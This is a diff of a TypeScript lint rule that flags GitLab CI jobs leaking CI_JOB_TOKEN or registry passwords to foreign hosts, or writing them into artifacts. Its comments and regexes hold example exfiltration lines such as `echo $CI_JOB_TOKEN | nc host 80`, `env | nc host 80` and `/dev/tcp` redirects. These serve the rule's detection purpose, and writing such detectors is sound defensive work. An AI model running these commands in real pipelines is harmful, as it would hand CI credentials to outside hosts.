@@ -1,12 +1,16 @@
 import { z } from 'zod';
 import type { Job } from '../ci/config.ts';
 import { runnerJobs } from '../ci/runner-jobs.ts';
-import { isDownload } from '../shell/download.ts';
-import type { CommandWord, JobCommand } from '../shell/job-command.ts';
+import { shownText } from '../ci/yaml-variables.ts';
+import type { CommandWord, JobCommand, ScriptPlace } from '../shell/job-command.ts';
+import { outermost } from '../shell/printed-text.ts';
 import { keptBy } from './judging/artifact-paths.ts';
 import type { HitDraft } from './judging/hit.ts';
 import { addressesIn, hostOf, isForeignHost } from './judging/hosts.ts';
 import { commandsThat } from './judging/in-commands.ts';
+import { variablesThat } from './judging/in-variables.ts';
+import { printedVariables } from './judging/prints-variables.ts';
+import { inputReceiverOf, type Receiver, receiverOf } from './judging/receiving-host.ts';
 import { defineRule, type RuleContext } from './rule.ts';
 
 const messages = {
@@ -25,7 +29,15 @@ export const jobTokenLeaves = defineRule({
   fix: 'Give the other host a token of its own, from a protected and masked variable or `id_tokens`, and write no token into artifacts.',
   blindSpots:
     'Hosts in unknown variables, hosts below the domain of this GitLab, and what scripts of the repository do with the token are not seen.',
-  keywords: ['before_script', 'script', 'after_script', 'run', 'artifacts:paths', 'artifacts:reports:dotenv'],
+  keywords: [
+    'variables',
+    'before_script',
+    'script',
+    'after_script',
+    'run',
+    'artifacts:paths',
+    'artifacts:reports:dotenv',
+  ],
   level: 'error',
   source: 'https://docs.gitlab.com/ci/jobs/ci_job_token/',
   examples: {
@@ -45,10 +57,11 @@ export const jobTokenLeaves = defineRule({
   *check(config, { allow }, context) {
     const isForeign = (host: string) => !allow.includes(host) && isForeignHost(host, context.serverFqdn);
     for (const job of runnerJobs(config)) {
+      yield* inVariables(job, isForeign, context);
       for (const command of suspects(job)) {
+        const named = command.words.filter(holdsToken);
         // the commands in a text of commands come by themselves
-        const named = command.runsText ? [] : command.words.filter((word) => tokenOf(word) !== null);
-        if (named.length > 0) yield* sent(job, command, named, isForeign, context);
+        if (!command.runsText) yield* sent(job, command, named, isForeign, context);
         yield* fed(job, command, isForeign, context);
         yield* written(job, command, named, isForeign, context);
       }
@@ -60,22 +73,65 @@ export const jobTokenLeaves = defineRule({
 const TOKENS = ['CI_JOB_TOKEN', 'CI_REGISTRY_PASSWORD', 'CI_DEPENDENCY_PROXY_PASSWORD'];
 const TOKEN = /\$\{?(CI_JOB_TOKEN|CI_REGISTRY_PASSWORD|CI_DEPENDENCY_PROXY_PASSWORD)\b/;
 
-const suspects = commandsThat((command) => {
-  return command.hereDocuments.length > 0 || [...command.words, ...inputWords(command)].some(holdsToken);
-});
+const NAMED = /\b(?:CI_JOB_TOKEN|CI_REGISTRY_PASSWORD|CI_DEPENDENCY_PROXY_PASSWORD)\b/;
 
 const holdsToken = (word: CommandWord) => tokenOf(word) !== null;
 
-/** Of commands whose output it reads. */
-function inputWords({ from }: JobCommand): readonly CommandWord[] {
-  return from.flatMap(({ words }) => words);
+/** Put in by the shell, printed by a command whose output is part of the word, or asked for by a program in it. */
+function tokenOf(word: CommandWord): string | null {
+  const { names, text } = word;
+  const put = names.length === 0 ? undefined : TOKENS.find((name) => names.includes(name));
+  if (put !== undefined) return put;
+  if (/\b(?:environ|getenv|process\.env|ENV)\b/.test(text)) return NAMED.exec(text)?.[0] ?? null;
+  if (!/\$\(|`/.test(text)) return null;
+  return outermost(word.outputOf()).flatMap((inner) => printedToken(inner)?.token ?? [])[0] ?? null;
+}
+
+interface Printed extends Pick<CommandWord, 'at' | 'from'> {
+  readonly token: string;
+}
+
+/** A hash of it tells nothing. */
+const HASHES = /^(?:(?:sha\d*|md5|b2|ck)sum|shasum|wc)$/;
+
+/** What the command prints, or hands on from the one before it. */
+function printedToken(command: JobCommand): Printed | null {
+  if (HASHES.test(command.name)) return null;
+  const isPrinted = command.name === 'printenv';
+  for (const word of command.words) {
+    const token = isPrinted ? TOKENS.find((name) => name === word.text) : tokenOf(word);
+    if (token) return { token, at: word.at, from: word.from };
+  }
+  if (printedVariables(command) !== null) return { token: 'CI_JOB_TOKEN', at: command.at, from: [] };
+  return inputToken(command);
+}
+
+/** What comes in through a pipe. */
+function inputToken({ from }: JobCommand): Printed | null {
+  for (const feeder of from) {
+    const printed = printedToken(feeder);
+    if (printed) return printed;
+  }
+  return null;
+}
+
+const suspects = commandsThat((command) => {
+  return command.hereDocuments.length > 0 || command.words.some(holdsToken) || inputToken(command) !== null;
+});
+
+const addresses = variablesThat(({ at, value }) => TOKEN.test(at.value) && addressesIn(shownText(value)).length > 0);
+
+/** `PIP_INDEX_URL`: the program that asks there is not named. */
+function* inVariables(job: Job, isForeign: IsForeign, { hit }: Context): Iterable<HitDraft> {
+  for (const { at, value } of addresses(job)) {
+    const text = shownText(value);
+    const host = foreignWithToken(text, isForeign);
+    if (host === null) continue;
+    yield hit(job, at, 'address', { value: `$${TOKEN.exec(text)?.[1]}`, host }).because(...value.from);
+  }
 }
 
 type IsForeign = (host: string) => boolean;
-
-function tokenOf({ names }: CommandWord): string | null {
-  return names.length === 0 ? null : (TOKENS.find((name) => names.includes(name)) ?? null);
-}
 
 function* sent(
   job: Job,
@@ -84,67 +140,63 @@ function* sent(
   isForeign: IsForeign,
   { hit }: Context,
 ): Iterable<HitDraft> {
-  for (const word of named) {
-    const host = foreignWithToken(word.text, isForeign);
+  for (const [index, word] of named.entries()) {
+    // told where the variable is set
+    if (word.from.some((variable) => foreignWithToken(variable.value, isForeign) !== null)) continue;
+    const before = command.words[command.words.indexOf(word) - 1]?.text ?? '';
+    const address = foreignWithToken(KEY_OF_HOST.test(before) ? `${before}=${word.text}` : word.text, isForeign);
     const value = `$${tokenOf(word)}`;
-    if (host !== null) {
-      yield hit(job, word.at, 'address', { value, host }).because(...word.from);
+    if (address !== null) {
+      yield hit(job, word.at, 'address', { value, host: address }).because(...word.from);
       return;
     }
-    const target = isDownload(command) ? targetOf(command) : receiverOf(command);
-    if (target === null || !isForeign(target)) continue;
-    const message = isLogin(command) ? 'login' : 'sent';
-    yield hit(job, word.at, message, { program: command.name, value, host: target }).because(...word.from);
+    const receiver = index === 0 ? (receiverOf(command) ?? ownProgram(word, command)) : null;
+    if (!receiver || !isForeign(receiver.host)) continue;
+    yield received(hit, job, word.at, receiver, { program: command.name, value }).because(...word.from);
     return;
   }
 }
 
-/** `echo $CI_JOB_TOKEN | nc host 80`, `nc host 80 <<< $CI_JOB_TOKEN`, `… | curl -d @- https://host`. */
+/** `npm config set //host/:_authToken $CI_JOB_TOKEN`. */
+const KEY_OF_HOST = /^\/\/.*:_(?:authToken|auth|password)$/;
+
+const LANGUAGES = /^(?:python[\d.]*|node|ruby|perl|php|deno|bun)$/;
+
+/** A program in one line that names the token and one foreign host. */
+function ownProgram({ text }: CommandWord, { name }: JobCommand): Receiver | null {
+  const [address, ...others] = LANGUAGES.test(name) ? addressesIn(text) : [];
+  const host = address !== undefined && others.length === 0 ? hostOf(address) : null;
+  return host === null ? null : { host, how: 'sent' };
+}
+
+function received(
+  hit: Context['hit'],
+  job: Job,
+  at: ScriptPlace,
+  { host, how }: Receiver,
+  values: { readonly program: string; readonly value: string },
+): HitDraft {
+  const draft = hit(job, at, how === 'login' ? 'login' : 'sent', { ...values, host });
+  // a machine that the project deploys to may well be meant to have it
+  return how === 'shell' ? draft.atMost('warning') : draft;
+}
+
+/** `echo $CI_JOB_TOKEN | nc host 80`, `nc host 80 <<< $CI_JOB_TOKEN`, `… | curl -d @- https://host`, `env | nc host 80`. */
 function* fed(job: Job, command: JobCommand, isForeign: IsForeign, { hit }: Context): Iterable<HitDraft> {
-  const host = isDownload(command) ? (sendsInput(command) ? targetOf(command) : null) : receiverOf(command);
-  if (host === null || !isForeign(host) || command.runsText) return;
-  const message = isLogin(command) ? 'login' : 'sent';
-  const word = inputWords(command).find(holdsToken);
-  if (word) {
-    const values = { program: command.name, value: `$${tokenOf(word)}`, host };
-    yield hit(job, word.at, message, values).because(...word.from);
+  const receiver = inputReceiverOf(command);
+  if (!receiver || !isForeign(receiver.host)) return;
+  const input = inputToken(command);
+  if (input) {
+    const values = { program: command.name, value: `$${input.token}` };
+    yield received(hit, job, input.at, receiver, values).because(...input.from);
   }
+  if (command.runsText) return;
   for (const document of command.hereDocuments) {
     const token = document.quoted ? null : TOKEN.exec(document.text);
     if (!token) continue;
     const at = document.locate({ start: token.index, end: token.index + token[0].length });
-    yield hit(job, at, message, { program: command.name, value: `$${token[1]}`, host });
+    yield received(hit, job, at, receiver, { program: command.name, value: `$${token[1]}` });
   }
-}
-
-const INPUT = /^(?:[\w.-]+=)?@-$|^--(?:post-file|body-file|upload-file)=-$/;
-
-function sendsInput({ words }: JobCommand): boolean {
-  return words.some(
-    ({ text }, index) =>
-      INPUT.test(text) || (text === '-' && /^-T$|^--upload-file$/.test(words[index - 1]?.text ?? '')),
-  );
-}
-
-/** Where something else than a web client sends what it reads, or logs in. */
-function receiverOf(command: JobCommand): string | null {
-  return socketHost(command) ?? loginHost(command);
-}
-
-const NETCAT = /^(?:nc|ncat|netcat|telnet)$/;
-const SOCKET = /^\/dev\/(?:tcp|udp)\/([\w.-]+)\//;
-const SOCAT = /^(?:tcp|udp|ssl|openssl)[46]?(?:-connect)?:([\w.-]+):/i;
-
-/** `nc host 80`, `socat - TCP:host:80`, `> /dev/tcp/host/80`. */
-function socketHost({ name, words, writesTo }: JobCommand): string | null {
-  const socket = writesTo.flatMap(({ text }) => SOCKET.exec(text)?.[1] ?? []);
-  if (socket[0] !== undefined) return socket[0].toLowerCase();
-  const texts = words.slice(1).map(({ text }) => text);
-  if (name === 'socat') return texts.flatMap((text) => SOCAT.exec(text)?.[1] ?? [])[0]?.toLowerCase() ?? null;
-  if (!NETCAT.test(name)) return null;
-  return (
-    texts.find((text) => /^[a-z0-9-]+(?:\.[a-z0-9-]+)+$/i.test(text) && /[a-z]/i.test(text))?.toLowerCase() ?? null
-  );
 }
 
 /** An address that holds the token itself; netrc names the host in words. */
@@ -152,39 +204,6 @@ function foreignWithToken(text: string, isForeign: IsForeign): string | null {
   const holding = addressesIn(text).filter((address) => TOKEN.test(address));
   const hosts = [...holding.map(hostOf), TOKEN.test(text) ? (/\bmachine\s+([\w.-]+)/.exec(text)?.[1] ?? null) : null];
   return hosts.find((host) => host !== null && isForeign(host)) ?? null;
-}
-
-/** Options whose word may look like an address, but is none that is asked. */
-const NOT_ASKED = /^(?:-[a-zA-Z]*[deFHTxA]|--(?:data.*|form.*|header|referer|proxy|user-agent|output))$/;
-
-function targetOf({ words }: JobCommand): string | null {
-  const asked = words.filter((word, index) => {
-    return /^[a-z]+:\/\//i.test(word.text) && !NOT_ASKED.test(words[index - 1]?.text ?? '');
-  });
-  // one of its own takes the token, whatever else is asked
-  return asked.length === 1 && asked[0] ? hostOf(asked[0].text) : null;
-}
-
-const CLIENTS = new Set(['docker', 'podman', 'buildah', 'skopeo', 'nerdctl', 'crane', 'oras', 'helm', 'regctl']);
-const LOGIN_VALUES =
-  /^(?:-u|-p|--username|--password|--authfile|--cert-dir|--tlscacert|--config|--registry-config|-H|--host|-c|--context|-l|--log-level)$/;
-
-function isLogin(command: JobCommand): boolean {
-  return !isDownload(command) && socketHost(command) === null;
-}
-
-/** Of `docker login`; without a host it is Docker Hub's. */
-function loginHost({ name, words }: JobCommand): string | null {
-  if (!CLIENTS.has(name)) return null;
-  const texts = words.map((word) => word.text);
-  const login = texts.indexOf('login');
-  if (login === -1) return null;
-  const rest = texts.slice(login + 1).filter((text, index, all) => {
-    return !text.startsWith('-') && !LOGIN_VALUES.test(all[index - 1] ?? '');
-  });
-  const [server] = rest;
-  if (server === undefined) return name === 'docker' || name === 'nerdctl' ? 'docker.io' : null;
-  return hostOf(server.includes('//') ? server : `//${server}`);
 }
 
 /** Into a file that is kept, and what a here-document or `echo` writes for another host. */
@@ -195,12 +214,12 @@ function* written(
   isForeign: IsForeign,
   { hit }: Context,
 ): Iterable<HitDraft> {
-  const [word] = named;
   const [file] = command.writesTo;
-  if (word && file && /^(?:echo|printf|cat)$/.test(command.name)) {
-    const kept = keptBy(job, file.text);
-    const value = `$${tokenOf(word)}`;
-    if (kept) yield hit(job, word.at, 'artifact', { value, file: file.text }).because(kept.source, ...kept.from);
+  const token = tokenForFile(command, named);
+  for (const { text } of token ? filesOf(command) : []) {
+    const kept = keptBy(job, text);
+    if (!kept || !token) continue;
+    yield hit(job, token.at, 'artifact', { value: `$${token.token}`, file: text }).because(kept.source, ...kept.from);
   }
   for (const document of command.hereDocuments) {
     const token = document.quoted ? null : TOKEN.exec(document.text);
@@ -213,4 +232,19 @@ function* written(
     const kept = file ? keptBy(job, file.text) : null;
     if (kept && file) yield hit(job, at, 'artifact', { value, file: file.text }).because(kept.source, ...kept.from);
   }
+}
+
+/** What `echo` and its like write, and what `tee` is given: all variables together are told of by another rule. */
+function tokenForFile(command: JobCommand, [word]: readonly CommandWord[]): Printed | null {
+  if (command.name === 'tee') return printedVariables(command) === null ? inputToken(command) : null;
+  const token = word && WRITERS.test(command.name) ? tokenOf(word) : null;
+  return word && token !== null ? { token, at: word.at, from: word.from } : null;
+}
+
+const WRITERS = /^(?:echo|printf|cat|sed|write-output|write-host)$/i;
+
+function filesOf({ name, words, writesTo }: JobCommand): readonly CommandWord[] {
+  if (name === 'tee') return words.slice(1).filter(({ text }) => !text.startsWith('-'));
+  const isInPlace = name === 'sed' && words.some(({ text }) => /^-[a-zA-Z]*i|^--in-place/.test(text));
+  return isInPlace ? words.slice(-1) : writesTo;
 }
